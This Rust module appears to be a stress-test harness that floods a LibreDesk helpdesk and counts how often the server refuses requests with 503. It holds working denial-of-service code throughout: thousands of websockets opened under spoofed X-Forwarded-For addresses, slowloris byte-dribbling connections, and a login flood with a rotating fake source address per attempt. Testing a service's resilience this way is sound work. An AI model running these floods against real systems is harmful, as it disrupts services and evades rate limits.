//! Those who flood a desk. Steps are begun by a line on standard input and told by a line on standard output.

use std::net::Ipv4Addr;
use std::sync::Arc;
use std::sync::atomic::{AtomicU32, Ordering};
use std::time::Duration;

use anyhow::{Context as _, Result, bail};
use futures_util::SinkExt as _;
use futures_util::stream::{self, StreamExt as _, TryStreamExt as _};
use reqwest::Client;
use serde_json::{Value, json};
use tokio::io::{AsyncBufReadExt as _, AsyncReadExt as _, AsyncWriteExt as _, BufReader};
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio_tungstenite::tungstenite::Message;
use tokio_tungstenite::tungstenite::client::IntoClientRequest as _;
use tokio_tungstenite::tungstenite::protocol::WebSocketConfig;
use tokio_tungstenite::{MaybeTlsStream, WebSocketStream, connect_async_with_config};

use crate::out;

/// Visitors' sockets, and half of them.
pub(crate) const SOCKETS: u32 = 10_000;
pub(crate) const HALF: u32 = SOCKETS / 2;
/// Sockets of each visitor: as many as one may have.
const EACH: u32 = 10;
/// How often a widget pings.
const PING_EVERY: Duration = Duration::from_secs(10);
const SLOW_CLIENTS: u32 = 200;
/// A slow client's pause between two bytes.
const SLOWNESS: Duration = Duration::from_secs(2);
/// Wrong passwords under way.
const GUESSERS: u32 = 32;
const AT_ONCE: usize = 32;

type Socket = WebSocketStream<MaybeTlsStream<TcpStream>>;

/// Floods the desk at `url`.
pub(crate) async fn run(url: &str, inbox: &str) -> Result<()> {
    let flood = Arc::new(Flood {
        url: url.to_owned(),
        inbox: inbox.to_owned(),
        http: Client::builder().no_proxy().timeout(Duration::from_secs(60)).build()?,
        guesses: AtomicU32::new(0),
        refused: AtomicU32::new(0),
    });
    let mut tasks = JoinSet::new();
    for (from, to) in [(0, HALF), (HALF, SOCKETS)] {
        let visitors = stream::iter(from / EACH..to / EACH).map(|number| flood.visitor(number));
        let sockets: Vec<Vec<Socket>> = visitors.buffer_unordered(AT_ONCE).try_collect().await?;
        sockets.into_iter().flatten().enumerate().for_each(|(number, socket)| drop(tasks.spawn(keep(socket, number))));
        out::result(&format!("{to} sockets"));
    }
    let mut told = BufReader::new(tokio::io::stdin()).lines();
    told.next_line().await?;
    for number in 0..SLOW_CLIENTS {
        tasks.spawn(Arc::clone(&flood).dribble(number));
    }
    for number in 0..GUESSERS {
        tasks.spawn(Arc::clone(&flood).guess(number));
    }
    out::result("flooding");
    while told.next_line().await?.is_some() {}
    let (guesses, refused) = (flood.guesses.load(Ordering::Relaxed), flood.refused.load(Ordering::Relaxed));
    out::result(&format!("{guesses} wrong passwords answered, {refused} of them with 503"));
    Ok(())
}

struct Flood {
    url: String,
    inbox: String,
    http: Client,
    guesses: AtomicU32,
    refused: AtomicU32,
}

/// An address that nobody else has.
fn address(kind: u8, number: u32) -> String {
    let [_, b, c, d] = number.to_be_bytes();
    Ipv4Addr::new(kind, b, c, d).to_string()
}

impl Flood {
    /// A visitor who begins a chat and opens sockets.
    async fn visitor(&self, number: u32) -> Result<Vec<Socket>> {
        let from = address(11, number);
        let request = self.http.post(format!("{}/api/v1/widget/chat/conversations/init", self.url));
        let request = request.header("x-libredesk-inbox-id", &self.inbox).header("x-forwarded-for", &from);
        let answer: Value = request.json(&json!({"message": "Hello"})).send().await?.json().await?;
        let token = answer["data"]["session_token"].as_str().with_context(|| format!("no session: {answer}"))?;
        let mut sockets = Vec::new();
        for _ in 0..EACH {
            sockets.push(self.socket(token, &from).await?);
        }
        Ok(sockets)
    }

    async fn socket(&self, token: &str, from: &str) -> Result<Socket> {
        let mut request = format!("{}/widget/ws", self.url.replace("http", "ws")).into_client_request()?;
        request.headers_mut().insert("x-forwarded-for", from.parse()?);
        // The usual buffers of thousands of clients would be gigabytes.
        let small = WebSocketConfig::default().read_buffer_size(1024).write_buffer_size(0);
        let (mut socket, _) = connect_async_with_config(request, Some(small), false).await?;
        let join = json!({"type": "join", "token": token, "data": {"inbox_id": self.inbox}});
        socket.send(Message::text(join.to_string())).await?;
        match socket.next().await {
            Some(Ok(Message::Text(text))) if text.contains("joined") => Ok(socket),
            other => bail!("the visitor could not join: {other:?}"),
        }
    }

    /// Sends heads and bodies byte by byte, or reads answers so, and begins anew whenever it is let go.
    async fn dribble(self: Arc<Self>, number: u32) {
        let host = self.url.trim_start_matches("http://").to_owned();
        let from = address(12, number);
        let whole = format!("GET /api/v1/openapi.json HTTP/1.1\r\nhost: {host}\r\nx-forwarded-for: {from}\r\n");
        let body = format!(
            "POST /api/v1/auth/login HTTP/1.1\r\nhost: {host}\r\nx-forwarded-for: {from}\r\ncontent-length: 100000\r\n\r\n"
        );
        loop {
            let begun: &str = match number % 3 {
                0 => "G",
                1 => &body,
                _ => &whole,
            };
            drop(dribble_once(&host, begun).await);
        }
    }

    /// Tries passwords of one account after the other, each from another address: no limit by account or by address holds
    /// that back, and each costs a whole check.
    async fn guess(self: Arc<Self>, number: u32) {
        let mut count = 0;
        loop {
            let request = self.http.post(format!("{}/api/v1/auth/login", self.url));
            let request = request.header("x-forwarded-for", address(13, number * 65_536 + count % 65_536));
            let wrong = json!({"email": format!("somebody-{number}-{count}@example.org"), "password": "Wrong-1"});
            count += 1;
            let Ok(answer) = request.json(&wrong).send().await else { continue };
            self.guesses.fetch_add(1, Ordering::Relaxed);
            if answer.status() == 503 {
                self.refused.fetch_add(1, Ordering::Relaxed);
                // As the answer asks.
                tokio::time::sleep(Duration::from_secs(1)).await;
            }
        }
    }
}

async fn dribble_once(host: &str, begun: &str) -> Result<()> {
    let mut stream = TcpStream::connect(host).await?;
    stream.write_all(begun.as_bytes()).await?;
    let mut byte = [0];
    loop {
        tokio::time::sleep(SLOWNESS).await;
        stream.write_all(b"x").await?;
        if let Ok(read) = tokio::time::timeout(Duration::from_millis(1), stream.read(&mut byte)).await {
            anyhow::ensure!(read? > 0, "it was let go");
        }
    }
}

/// Keeps a socket open as a widget does.
async fn keep(mut socket: Socket, number: usize) {
    // Not all at the same moment.
    tokio::time::sleep(PING_EVERY * u32::try_from(number % 1000).unwrap_or(0) / 1000).await;
    let mut tick = tokio::time::interval(PING_EVERY);
    loop {
        tokio::select! {
            _ = tick.tick() => {
                if socket.send(Message::text(r#"{"type":"ping"}"#)).await.is_err() {
                    return;
                }
            }
            heard = socket.next() => {
                if !matches!(heard, Some(Ok(_))) {
                    return;
                }
            }
        }
    }
}
